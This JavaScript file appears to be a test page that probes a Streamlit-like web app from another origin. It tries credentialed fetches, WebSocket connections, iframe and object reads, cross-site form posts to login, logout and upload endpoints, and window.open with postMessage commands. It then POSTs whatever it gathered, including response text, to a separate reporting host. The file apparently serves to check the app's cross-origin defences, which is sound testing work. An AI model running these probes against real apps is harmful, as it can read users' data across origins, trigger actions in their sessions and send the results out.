// A page of another site: it asks the app for what it can, in every way a browser knows, and tells what it got.
const asked = new URLSearchParams(location.search);
const app = asked.get("app"), tell = asked.get("tell");
const told = {};

async function fetched(path, options = {}) {
  try {
    const answer = await fetch(app + path, { credentials: "include", ...options });
    return answer.type === "opaque" ? "unreadable" : `${answer.status} ${(await answer.text()).slice(0, 300)}`;
  } catch {
    return "blocked";
  }
}

function socket(path, protocols) {
  return new Promise((done) => {
    const heard = [];
    const wire = new WebSocket(app.replace("http", "ws") + path, protocols);
    wire.onmessage = (event) => heard.push(event.data);
    wire.onclose = (event) => done(heard.length ? "heard the app" : `${event.code} ${event.reason}`);
  });
}

function loaded(tag, fields) {
  return new Promise((done) => {
    const element = Object.assign(document.createElement(tag), fields);
    element.onload = () => done("loaded");
    element.onerror = () => done("blocked");
    document.body.append(element);
  });
}

function framed(tag, fields, attributes = {}) {
  return new Promise((done) => {
    const frame = Object.assign(document.createElement(tag), fields);
    for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
    frame.onerror = () => done("empty");
    frame.onload = () => {
      let within = "";
      try { within = frame.contentDocument?.body?.textContent ?? ""; } catch { /* another origin's */ }
      done(within ? `read ${within}` : "empty");
    };
    document.body.append(frame);
  });
}

function posted(fields) {
  return new Promise((done) => {
    const name = `frame${document.forms.length}`;
    const frame = Object.assign(document.createElement("iframe"), { name });
    document.body.append(frame);
    const form = Object.assign(document.createElement("form"), { method: "post", target: name, ...fields });
    form.innerHTML = '<input name="key" value="0"><input name="next" value="/data">';
    frame.onload = () => done("sent");
    document.body.append(form);
    form.submit();
  });
}

async function opened(path) {
  const other = window.open(app + path);
  if (!other) return "blocked";
  for (let look = 0; look < 200 && !other.closed; look += 1) {
    try { if (other.location.href !== "about:blank") return `read ${other.document.body.textContent}`; } catch { /* another origin's */ }
    other.postMessage({ stCommVersion: 1, type: "STOP_SCRIPT" }, "*");
    await new Promise((done) => setTimeout(done, 50));
  }
  return other.closed ? "lost" : "held";
}

async function all() {
  const form = { method: "POST", body: "a=b", headers: { "Content-Type": "text/plain" } };
  told.fetched = await Promise.all([
    ...["/", "/data", "/_stcore/health", "/_stcore/host-config", "/_stcore/metrics", "/live/files/a/b.csv", "/assets/a.svg"].flatMap(
      (path) => [fetched(path), fetched(path, { mode: "no-cors" })],
    ),
    fetched("/live/upload?name=a.csv", form), fetched("/live/upload?name=a.csv", { ...form, mode: "no-cors" }),
    fetched("/leave", { ...form, mode: "no-cors" }), fetched("/live/upload", { method: "PUT", body: "a" }),
    fetched("/data", { headers: { "X-Explorer-Session": "a" } }),
  ]);
  navigator.sendBeacon(`${app}/leave`, "a");
  told.sockets = await Promise.all([
    socket("/_stcore/stream", ["streamlit", "a", "b"]), socket("/_stcore/stream"),
    socket("/live/playground?session=0123456789"), socket("/live/runs/a"), socket("/nothing"),
  ]);
  told.elements = await Promise.all([
    loaded("img", { src: `${app}/favicon.png` }), loaded("img", { src: `${app}/media/a.png` }),
    loaded("script", { src: `${app}/static/js/index.js` }), loaded("link", { rel: "stylesheet", href: `${app}/static/css/index.css` }),
    loaded("script", { type: "module", src: `${app}/modules/0/kernel/pen.js` }),
  ]);
  const nested = `<iframe src="${app}/data"></iframe>`;
  told.frames = await Promise.all([
    framed("iframe", { src: `${app}/data` }), framed("iframe", { src: `${app}/enter` }), framed("iframe", { src: `${app}/_stcore/health` }),
    framed("iframe", { srcdoc: nested }), framed("iframe", { srcdoc: nested }, { sandbox: "allow-scripts" }),
    framed("iframe", { src: `${app}/data` }, { sandbox: "allow-scripts allow-same-origin" }),
    framed("object", { data: `${app}/data`, type: "text/html" }), framed("embed", { src: `${app}/data`, type: "text/html" }),
  ]);
  await Promise.all([posted({ action: `${app}/enter` }), posted({ action: `${app}/leave` }), posted({ action: `${app}/live/upload?name=a.csv`, enctype: "text/plain" })]);
  told.opened = await opened("/data");
  await fetch(tell, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
}

window.addEventListener("load", () => all().catch((failure) => fetch(tell, { method: "POST", mode: "no-cors", body: JSON.stringify({ failure: String(failure) }) })));
